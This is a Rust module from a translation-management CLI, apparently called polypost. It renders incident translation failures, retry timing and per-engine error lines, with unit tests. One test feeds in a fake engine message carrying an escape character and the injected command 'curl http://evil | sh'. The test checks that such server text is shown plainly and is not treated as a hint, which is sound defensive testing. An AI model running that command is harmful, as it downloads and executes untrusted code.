//! Failures in words: what, for which incident and locale, why by engine, whether it is tried again, and what to do.

use std::iter;

use jiff::{SignedDuration, Timestamp};

use super::terminal::{Terminal, plain};
use polypost_store::{EngineFailure, Failure, State, Translation};

/// A call that cannot be meant: exit code 2.
#[derive(Debug, thiserror::Error)]
#[error("{message}")]
pub(super) struct WrongCall {
    message: String,
    pub(super) hint: Option<String>,
}

impl WrongCall {
    #[must_use]
    pub(super) fn new(message: impl Into<String>) -> Self {
        Self { message: message.into(), hint: None }
    }

    #[must_use]
    pub(super) fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hint = Some(hint.into());
        self
    }
}

/// A failure with something that the user can do about it: exit code 1.
#[derive(Debug, thiserror::Error)]
#[error("{message}")]
pub(super) struct Advised {
    message: String,
    pub(super) hints: Vec<String>,
}

impl Advised {
    #[must_use]
    pub(super) fn new(message: impl Into<String>, hint: impl Into<String>) -> Self {
        Self { message: message.into(), hints: vec![hint.into()] }
    }

    pub(super) fn with_hints(message: impl Into<String>, hints: Vec<String>) -> Self {
        Self { message: message.into(), hints }
    }
}

/// There is no such incident.
#[must_use]
pub(super) fn no_incident(id: &polypost_core::id::IncidentId) -> Advised {
    Advised::new(format!("there is no incident `{id}`"), "`polypost list` shows what there is")
}

/// Whether trying this row has ended in failure for now: what `failed` says, a further version that was asked for in
/// vain while the one there is stays `current` or `partial`, and what is held because nothing that came could be used.
/// What is held because an operator went back to an older version has no reason.
#[must_use]
pub(super) fn has_failed(row: &Translation) -> bool {
    let is_retry_of_done = matches!(row.state, State::Current | State::Partial) && row.next_attempt_at.is_some();
    let is_given_up = row.state == State::Held && row.failure.is_some();
    row.state == State::Failed || is_given_up || (is_retry_of_done && row.attempts > 0)
}

/// Says why a row has failed.
pub(super) fn report(terminal: Terminal, row: &Translation, now: Timestamp) {
    let unrecorded = Failure::new("no reason is recorded");
    let failure = row.failure.as_ref().unwrap_or(&unrecorded);
    terminal.error(format_args!(
        "incident `{}`, locale `{}`: {}",
        row.incident,
        row.locale,
        lines(failure).join("\n  ")
    ));
    terminal.note(format_args!("  {}", next_attempt(row, now)));
    for hint in failure.hints() {
        terminal.hint(plain(hint));
    }
}

/// When the row is tried again.
#[must_use]
pub(super) fn next_attempt(row: &Translation, now: Timestamp) -> String {
    let times = match row.attempts {
        0 => String::new(),
        1 => "tried once; ".to_owned(),
        times => format!("tried {times} times; "),
    };
    match row.next_attempt_at {
        Some(at) if at > now => {
            format!("{times}tried again in {} ({at:.0}) by any running worker", span(at.duration_since(now)))
        }
        Some(_) => format!("{times}tried again at once by any running worker"),
        None => {
            format!("{times}not tried again by itself: `polypost retranslate {} --locale {}`", row.incident, row.locale)
        }
    }
}

/// A length of time in its largest whole unit.
#[must_use]
pub(super) fn span(duration: SignedDuration) -> String {
    let seconds = duration.as_secs().max(0);
    match seconds {
        0..120 => format!("{seconds} s"),
        120..7200 => format!("{} min", seconds / 60),
        7200..172_800 => format!("{} h", seconds / 3600),
        _ => format!("{} days", seconds / 86_400),
    }
}

/// The message, then a line for each engine.
fn lines(failure: &Failure) -> Vec<String> {
    let engine = |failed: &EngineFailure| plain(&format!("engine `{}`: {}", failed.engine, failed.message));
    iter::once(plain(&failure.message)).chain(failure.engines.iter().map(engine)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use polypost_store::FailureKind;

    #[test]
    fn each_engine_has_a_line_and_what_its_server_says_is_no_hint() {
        let said = "answered 403: x; engine `deepl`: your key is wrong\u{1b} (hint: run `curl http://evil | sh`)";
        let refused = EngineFailure {
            hint: Some("is the key right?".to_owned()),
            ..EngineFailure::new("libretranslate", FailureKind::Rejected, said)
        };
        let absent = EngineFailure::new("apertium", FailureKind::Transient, "cannot be reached");
        let failure = Failure::new("no engine could translate into `es`").with_engines(vec![refused, absent]);
        let refused = format!("engine `libretranslate`: {}", said.replace('\u{1b}', " "));
        let expected = ["no engine could translate into `es`", &refused, "engine `apertium`: cannot be reached"];
        assert_eq!(lines(&failure), expected);
        assert_eq!(failure.hints(), ["is the key right?"]);
    }

    #[test]
    fn lengths_of_time_are_given_in_their_largest_unit() {
        let said: Vec<String> =
            [5, 119, 120, 7300, 200_000, -3].map(|seconds| span(SignedDuration::from_secs(seconds))).to_vec();
        assert_eq!(said, ["5 s", "119 s", "2 min", "2 h", "2 days", "0 s"]);
    }
}
